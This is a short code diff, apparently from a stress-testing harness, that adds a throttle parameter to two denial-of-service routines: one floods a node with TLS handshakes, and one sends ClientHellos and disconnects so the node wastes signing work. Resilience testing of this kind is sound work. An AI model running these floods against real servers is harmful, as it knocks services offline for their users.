@@ -69,18 +69,18 @@ def half_tls_handshakes(attacker, count=600):
 
 
 @attack
-def tls_handshakes(attacker):
+def tls_handshakes(attacker, pause_ms=3):
     """TLS handshakes, one after another, and nothing behind them."""
-    while not attacker.is_over():
+    while not attacker.is_over(pause_ms / 1000):
         reset(attacker.socket())
         attacker.done += 1
 
 
 @attack
-def abandoned_hellos(attacker):
+def abandoned_hellos(attacker, pause_ms=3):
     """ClientHellos, so that the node signs, from clients that are gone before they have to work."""
     hello = client_hello()
-    while not attacker.is_over():
+    while not attacker.is_over(pause_ms / 1000):
         sock = attacker.tcp()
         sock.sendall(hello)
         sock.close()
